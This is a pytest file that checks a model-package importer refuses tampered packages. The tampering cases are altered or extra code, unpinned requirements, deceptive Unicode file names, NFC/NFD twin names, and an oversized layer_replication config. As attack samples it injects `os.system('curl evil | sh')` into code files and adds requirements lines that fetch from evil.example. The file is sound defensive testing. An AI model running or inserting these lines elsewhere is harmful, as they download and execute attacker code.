"""Issue 21, item 11: a package whose `inference.py` or vendored DeepSynth source was changed was
accepted (its README tells the receiver to run `python inference.py`, which then runs the sender's
code); names with control characters, bidirectional overrides, NFC/NFD twins and fullwidth
look-alikes were accepted; an adapter config with `layer_replication` x2000 took 122 s and 1.08 GB.

Each attack starts from a REAL package (`deepsynth export` of a tiny adapter), changes one thing,
writes a manifest whose hashes match (the sender controls both), and imports it through
`import_package`: refused, naming the file, and nothing written."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from attack_tools import build_package
from attack_tools import tiny_adapter  # noqa: F401  (fixtures)

from deepsynth.errors import PackageRefused
from deepsynth.export.safe_import import import_package

CODE_REFUSED = "the package's code or requirements are not what `deepsynth export` writes:"


@pytest.fixture(scope="module")
def exported(tiny_adapter, tmp_path_factory) -> dict[str, bytes]:
    """Every file (but the manifest) of a real package of the tiny adapter, and its manifest."""
    from deepsynth.export.package import export_package

    out = export_package(tiny_adapter, tmp_path_factory.mktemp("export") / "real.zip")
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _repack(tmp_path: Path, files: dict[str, bytes], version: str | None = None) -> Path:
    """`files` as a package with a correct manifest carrying the real one's metadata."""
    import hashlib

    manifest = json.loads(files["manifest.json"])
    body = {name: data for name, data in files.items() if name != "manifest.json"}
    manifest["files"] = {name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
                         for name, data in body.items()}
    if version is not None:
        manifest["deepsynth_version"] = version
    path = tmp_path / "zips" / "p.zip"
    path.parent.mkdir(exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**body, "manifest.json": json.dumps(manifest).encode()}.items():
            archive.writestr(name, data)
    return path


def _refused(tmp_path: Path, package: Path, *patterns: str) -> str:
    with pytest.raises(PackageRefused) as caught:
        import_package(package, tmp_path / "imports" / "pkg")
    message = str(caught.value)
    for pattern in patterns:
        assert pattern in message, message
    assert not (tmp_path / "imports").exists(), "a refused import left files behind"
    return message


def test_the_real_package_imports(tmp_path, exported):
    imported = import_package(_repack(tmp_path, exported), tmp_path / "imports" / "pkg")
    assert (imported.path / "inference.py").read_bytes() == exported["inference.py"]


@pytest.mark.parametrize("name", ["inference.py", "deepsynth_src/deepsynth/inference/summarizer.py",
                                  "deepsynth_src/deepsynth/__init__.py"])
def test_changed_code_is_refused_naming_the_file(tmp_path, exported, name):
    changed = dict(exported)
    changed[name] = exported[name] + b"\nimport os; os.system('curl evil | sh')\n"
    _refused(tmp_path, _repack(tmp_path, changed), CODE_REFUSED,
             f"{name}: differs from what DeepSynth 0.1.0's export writes")


@pytest.mark.parametrize("name", ["deepsynth_src/sitecustomize.py", "deepsynth_src/deepsynth/hooks.py", "setup.py"])
def test_extra_code_is_refused(tmp_path, exported, name):
    _refused(tmp_path, _repack(tmp_path, {**exported, name: b"print('owned')\n"}), CODE_REFUSED,
             f"{name}: code that DeepSynth 0.1.0's export never writes")


def test_code_from_another_version_cannot_be_checked_and_is_refused(tmp_path, exported):
    _refused(tmp_path, _repack(tmp_path, exported, version="9.9.9"),
             "written by DeepSynth '9.9.9'; this is DeepSynth 0.1.0, which can check only the code its own export "
             "writes")


@pytest.mark.parametrize("line", ["git+https://evil.example/pkg.git", "--index-url https://evil.example/simple",
                                  "-e .", "https://evil.example/x.whl", "-r other.txt"])
def test_requirements_that_fetch_anything_but_pins_are_refused(tmp_path, exported, line):
    changed = dict(exported)
    changed["requirements.txt"] = exported["requirements.txt"] + f"{line}\n".encode()
    _refused(tmp_path, _repack(tmp_path, changed), CODE_REFUSED, "requirements.txt, line",
             "is not a NAME==VERSION pin")


@pytest.mark.parametrize("name, shown", [
    ("README\u202emd.txt", "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
    ("notes\u200b.txt", "U+200B (ZERO WIDTH SPACE)"),
    ("notes\u0085.txt", "control character U+0085"),
    ("\uff41dapter_notes.txt", "U+FF41 (FULLWIDTH LATIN SMALL LETTER A) in its name looks like 'a'"),
    ("cafe\u0301.txt", "U+0301 (COMBINING ACUTE ACCENT)"),
])
def test_names_that_show_as_something_else_are_refused(tmp_path, exported, name, shown):
    _refused(tmp_path, _repack(tmp_path, {**exported, name: b"hello\n"}), shown)


def test_nfc_and_nfd_twins_are_refused(tmp_path, tiny_adapter):
    """'café.txt' composed (NFC) and decomposed (NFD) are two byte strings that show, and on macOS
    store, as one name: the pair is refused; names are compared after NFKC and case folding."""
    from deepsynth.export.safe_import import name_key

    assert name_key("caf\u00e9.txt") == name_key("cafe\u0301.txt") == name_key("CAF\u00c9.txt")
    files = {p.name: p.read_bytes() for p in tiny_adapter.iterdir()}
    package = build_package(tmp_path / "twins.zip", {**files, "caf\u00e9.txt": b"a\n", "cafe\u0301.txt": b"b\n"})
    _refused(tmp_path, package, "entry 'cafe\\u0301.txt'", "combines with the character before it")


def test_layer_replication_beyond_the_bound_is_refused_before_anything_is_built(tmp_path, exported):
    import time

    changed = dict(exported)
    config = json.loads(exported["adapter_config.json"])
    config["layer_replication"] = [[0, 2]] * 2000
    changed["adapter_config.json"] = json.dumps(config).encode()
    started = time.perf_counter()
    _refused(tmp_path, _repack(tmp_path, changed),
             "adapter_config.json: layer_replication builds 4,000 layers from 2,000 ranges (limit 512)")
    assert time.perf_counter() - started < 5
    config["layer_replication"] = [[0, "2"]]
    changed["adapter_config.json"] = json.dumps(config).encode()
    _refused(tmp_path, _repack(tmp_path, changed), "layer_replication must be a list of [start, end] layer ranges")
